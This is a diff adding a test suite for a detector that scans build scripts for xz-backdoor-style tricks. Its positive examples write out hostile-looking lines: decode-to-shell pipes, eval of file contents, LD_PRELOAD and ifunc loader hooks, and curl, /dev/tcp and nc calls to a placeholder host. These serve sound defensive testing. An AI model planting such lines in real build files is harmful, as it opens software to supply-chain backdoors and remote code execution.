@@ -1,0 +1,97 @@
+import { test } from 'uvu';
+import * as assert from 'uvu/assert';
+import { expandSet, hasCharacterMap } from '../../src/analyze/signals/tr-map.js';
+import { assess, scanBuildFile, signals } from '../../src/analyze/signals/scan.js';
+
+const fired = (line: string, path = 'm4/x.m4') => scanBuildFile(path, `${line}\n`).map((h) => h.signal);
+
+// Look-alikes in our own words, one or more per detector: each must fire.
+const positives: Record<string, string[]> = {
+  'grep-binary-tree': ['blob=`grep -aErls "^##[[:alnum:]]{4}##$" "$srcdir/" 2>/dev/null`', 'f=$(LC_ALL=C grep -al HELLO "$srcdir"/tests/*)'],
+  'fixture-read': ['sed "1,/^MARK$/d" "$srcdir/tests/files/sample-2.bin"', 'cat $top_srcdir/tests/data.lzma'],
+  'tr-charmap': [`hw_map='tr "\\t \\-_" " \\t_\\-"'`, `tr 'A-Za-z' 'N-ZA-Mn-za-m'`, `tr "\\114-\\321\\322-\\377\\35-\\47\\14-\\34\\0-\\13\\50-\\113" "\\0-\\377"`],
+  'byte-slicing': ['(head -c +1024 >/dev/null) && head -c +2048', 'dd if="$f" bs=1 skip=317 count=40 2>/dev/null', 'tail -c +31 "$f"', 'cut -b 3-9'],
+  'piped-decompress': ['cat "$f" | xz -d 2>/dev/null', 'echo "$p" | base64 -d > x', 'sed 1d "$f" | gzip -dc', 'cat x | unxz'],
+  'variable-decompressor': ['sed "r\\n" $hw_file | eval $hw_map | $hw_[$1]_tool -d 2>/dev/null'],
+  'decode-to-shell': ['xz -dc payload | sh', 'base64 -d blob | /bin/bash -s', 'gzip -dc x.gz | eval "$(cat)"', 'lzma -d < x | $SHELL'],
+  'eval-in-pipeline': ['sed 1d f | eval $hw_map | cat', 'eval $hw_cfg | $SHELL 2>/dev/null'],
+  'pipe-to-shell': ['cat script | sh', 'printf "%s" "$x" | $SHELL 2>/dev/null'],
+  'eval-command-output': ['eval "$(sed -n 2p "$f")"', 'eval `cat "$srcdir/tests/cfg"`'],
+  'writes-source': ['sed -i "s/return 0/return 1/" src/main.c', 'printf "%s\\n" "$x" >> $srcdir/src/crc64.c'],
+  'loader-hook': ['LD_PRELOAD=$PWD/libhook.so make', 'unsigned int la_version(unsigned int v) { return v; }', 'void f(void) __attribute__((ifunc("resolve_f")));'],
+  'network-fetch': ['curl -fsSL https://example.invalid/p.sh', 'wget -q -O - "$HW_URL" > p', 'git clone https://example.invalid/x.git', 'exec 3<>/dev/tcp/example.invalid/80', 'nc example.invalid 4444'],
+};
+
+test('every detector has a look-alike that it catches', () => {
+  for (const s of signals) assert.ok(positives[s.name], `no positive example for ${s.name}`);
+  for (const [name, lines] of Object.entries(positives)) {
+    for (const line of lines) assert.ok(fired(line).includes(name), `${name} should fire on: ${line} (got ${fired(line).join(', ')})`);
+  }
+});
+
+// Lines from genuine autotools, libtool, gettext and config.sub output.
+const negatives = [
+  `as_tr_cpp="eval sed 'y%*$as_cr_letters%P$as_cr_LETTERS%;s%[^_$as_cr_alnum]%_%g'"`,
+  `ac_cv_host=\`echo "$host" | tr '[a-z]' '[A-Z]'\``,
+  `UNAME_MACHINE=\`echo "$UNAME_MACHINE" | tr '[:upper:]' '[:lower:]'\``,
+  `x=\`echo $x | tr -d ' '\``,
+  `  eval ac_cv_env_\${ac_var}_set=\\\${\${ac_var}+set}`,
+  `  test -d "$as_dir" || eval $as_mkdir_p || {`,
+  `    test -z "$as_dirs" || eval "mkdir $as_dirs"`,
+  `(eval "$ac_compile") 2>conftest.er1`,
+  `         | sh | sh1234 | sh1234elb \\`,
+  `        dd bs=1 count=1 skip=4 2>/dev/null | hexdump -e '1/1 "%3d "'`,
+  `	tardir=$(distdir) && $(am__tar) | eval GZIP= gzip $(GZIP_ENV) -c >$(distdir).tar.gz`,
+  `	GZIP=$(GZIP_ENV) gzip -dc $(distdir).tar.gz | $(am__untar)`,
+  `Report bugs to <a suitable curl mailing list: https://curl.se/mail/>.`,
+  `  cat >./tests/configurehelp.pm <<_EOF`,
+  `  cat >conftest.$ac_ext <<_ACEOF`,
+  `# curl -O https://example.invalid/in-a-comment`,
+  `dnl grep -aErls pattern in an m4 comment`,
+  `if test "$(head -n 1 "$f")" = x; then`,
+];
+
+test('genuine build lines stay quiet', () => {
+  for (const line of negatives) assert.equal(fired(line, 'configure'), [], line);
+});
+
+test('libtool evaluates a symbol pipe inside a pipeline: one medium signal, not enough to judge', () => {
+  const line = `  func_cygming_ms_implib_tmp=\`$NM "$func_to_tool_file_result" | eval "$global_symbol_pipe" | $GREP '_NULL_IMPORT_DESCRIPTOR'\``;
+  const hits = scanBuildFile('build-aux/ltmain.sh', line);
+  assert.equal(hits.map((h) => h.signal), ['eval-in-pipeline']);
+  assert.is(assess(hits), undefined);
+});
+
+test('tr character maps: permutations only', () => {
+  assert.equal(expandSet('a-c\\t\\-'), [97, 98, 99, 9, 45]);
+  assert.is(expandSet('[:upper:]'), undefined);
+  assert.ok(hasCharacterMap(`tr "ab" "ba"`));
+  assert.not.ok(hasCharacterMap(`tr "ab" "ab"`));
+  assert.not.ok(hasCharacterMap(`tr 'a-z' 'A-Z'`));
+  assert.not.ok(hasCharacterMap(`tr ' ' '_'`));
+});
+
+test('compiled sources only get the loader-hook detector', () => {
+  assert.equal(scanBuildFile('src/a.c', 'system("xz -dc p | sh");\nunsigned la_version(unsigned v);\n').map((h) => h.signal), ['loader-hook']);
+});
+
+test('hits carry the line and the text; `only` limits the scan', () => {
+  const text = 'echo hi\nxz -dc p | sh\n# xz -dc p | sh\n';
+  const hits = scanBuildFile('build-aux/x.sh', text);
+  assert.equal([...new Set(hits.map((h) => h.line))], [2]);
+  assert.is(hits[0]!.text, 'xz -dc p | sh');
+  assert.equal(scanBuildFile('build-aux/x.sh', text, new Set([1])), []);
+});
+
+test('assess: stages together are critical, one strong signal high, weak alone nothing', () => {
+  const hit = (signal: string) => ({ signal, line: 1, text: '' });
+  assert.is(assess([hit('grep-binary-tree'), hit('tr-charmap')])?.severity, 'critical');
+  assert.is(assess([hit('tr-charmap'), hit('decode-to-shell')])?.severity, 'critical');
+  assert.is(assess([hit('tr-charmap')])?.severity, 'high');
+  assert.is(assess([hit('network-fetch'), hit('writes-source')])?.severity, 'high');
+  assert.is(assess([hit('byte-slicing')]), undefined);
+  assert.is(assess([hit('eval-command-output')]), undefined);
+  assert.is(assess([]), undefined);
+});
+
+test.run();
